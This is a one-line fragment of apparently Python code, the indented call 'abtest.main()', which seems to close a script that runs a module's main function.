    abtest.main()
